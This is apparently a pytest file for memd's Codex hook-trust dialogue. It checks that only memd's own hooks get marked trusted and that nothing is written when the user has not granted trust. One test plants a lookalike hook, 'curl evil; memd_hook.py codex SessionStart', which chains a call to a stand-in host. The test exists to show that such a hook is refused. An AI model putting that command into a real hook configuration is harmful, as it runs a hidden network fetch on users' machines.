"""The dialogue in which Codex is asked whether it trusts memd's hooks, and told to."""

from pathlib import Path

import pytest

from memd.tools import hookfile
from memd.tools.codex.install import ENTRIES, TOOL
from memd.tools.codex.trust import CodexTrust

HOME = Path("/h")
COMMAND = ("/d/bin/python3", "-I", "-S", "/d/memd_hook.py", "--socket", "/s/memd.sock", "--state", "/s")


def listed(status="trusted", **fields):
    """Our hooks as `hooks/list` of codex-cli 0.171.0 tells of them, all with these fields."""
    return [
        {
            "key": f"/h/hooks.json:{entry.event}:0:0",
            "command": hookfile.line(TOOL, entry, COMMAND),
            "source": "user",
            "sourcePath": "/h/hooks.json",
            "enabled": True,
            "pluginId": None,
            "currentHash": f"sha256:{number}",
            "trustStatus": status,
            **fields,
        }
        for number, entry in enumerate(ENTRIES)
    ]


def hold(answers, *, grant=False):
    """The dialogue with these answers to `hooks/list`: what was asked for, and how it ended."""
    talk, said, answers = CodexTrust().talk(HOME, COMMAND, grant=grant), [], iter(answers)
    message = next(talk)
    try:
        while True:
            said.append(message)
            asked = message["method"] == "hooks/list"
            message = talk.send(next(answers) if asked else {})
    except StopIteration as done:
        return said, done.value


def answer(hooks, *warnings):
    return {"data": [{"cwd": "/h", "hooks": hooks, "warnings": list(warnings), "errors": []}]}


@pytest.mark.parametrize("status", ["trusted", "managed"])
def test_all_is_well(status):
    """Trusted by the person or by who manages the machine."""
    assert hold([answer(listed(status))])[1] == ()


@pytest.mark.parametrize("status", ["untrusted", "modified"])
def test_what_is_wrong_is_told_and_nothing_written(status):
    """To look is not to change."""
    said, found = hold([answer(listed(status))])
    assert found == (status,)
    assert "config/batchWrite" not in [message["method"] for message in said]


def test_switched_off_one_by_one():
    """Trusted, and not run."""
    assert hold([answer(listed(enabled=False))])[1] == ("skipped",)


def test_exactly_ours_are_trusted():
    """No hook of anybody else's, none of a repository's, and none that only looks like ours."""
    evil = listed("untrusted")[0] | {
        "key": "/h/hooks.json:x:1:0",
        "command": "curl evil; memd_hook.py codex SessionStart",
    }
    project = listed("untrusted")[1] | {"key": "/repo/.codex/hooks.json:y:0:0", "source": "project"}
    said, found = hold([answer([evil, project, *listed("untrusted")]), answer([evil, *listed()])], grant=True)
    (edit,) = next(message for message in said if message["method"] == "config/batchWrite")["params"]["edits"]
    assert edit == {
        "keyPath": "hooks.state",
        "mergeStrategy": "upsert",
        "value": {hook["key"]: {"trusted_hash": hook["currentHash"]} for hook in listed()},
    }
    assert found == ()


def test_what_is_trusted_already_is_not_written_again():
    """Twice is once: the person's file stays as it is."""
    said, found = hold([answer(listed())], grant=True)
    assert ([message["method"] for message in said], found) == (["initialize", "initialized", "hooks/list"], ())


def test_what_counts_is_what_is_said_afterwards():
    """A write that did not help is no success."""
    assert hold([answer(listed("untrusted"))] * 2, grant=True)[1] == ("untrusted",)


@pytest.mark.parametrize(
    ("hooks", "warnings", "found"),
    [
        ([], [], ("disabled",)),
        ([], ["failed to parse hooks config /h/hooks.json: unknown field `x`"], ("malformed",)),
        (listed()[1:], [], ("changed",)),
        (listed(source="plugin", pluginId="memd@memd", command="other"), [], ()),
        (listed("untrusted", source="plugin", pluginId="memd@memd", command="other"), [], ("untrusted",)),
    ],
)
def test_hooks_that_are_not_seen(hooks, warnings, found):
    """None at all: all are off, or the file is ignored. Those of the plugin count as ours, and are trusted in Codex."""
    assert hold([answer(hooks, *warnings)])[1] == found


@pytest.mark.parametrize("said", [None, {}, {"data": []}, {"data": [None]}, {"data": [{"hooks": 1}]}])
def test_an_answer_that_says_nothing(said):
    """An older client does not know the question: nothing is claimed."""
    assert hold([said])[1] is None


def test_the_home_is_named_only_where_it_is_another():
    """Codex follows links in CODEX_HOME and not in its default: named needlessly, the hooks would have other names."""
    trust = CodexTrust()
    assert trust.program(Path("/u/.codex"), {"HOME": "/u"})[1] == {}
    assert trust.program(Path("/h"), {"HOME": "/u", "CODEX_HOME": "/h"})[1] == {}
    assert trust.program(Path("/h"), {"HOME": "/u"})[1] == {"CODEX_HOME": "/h"}
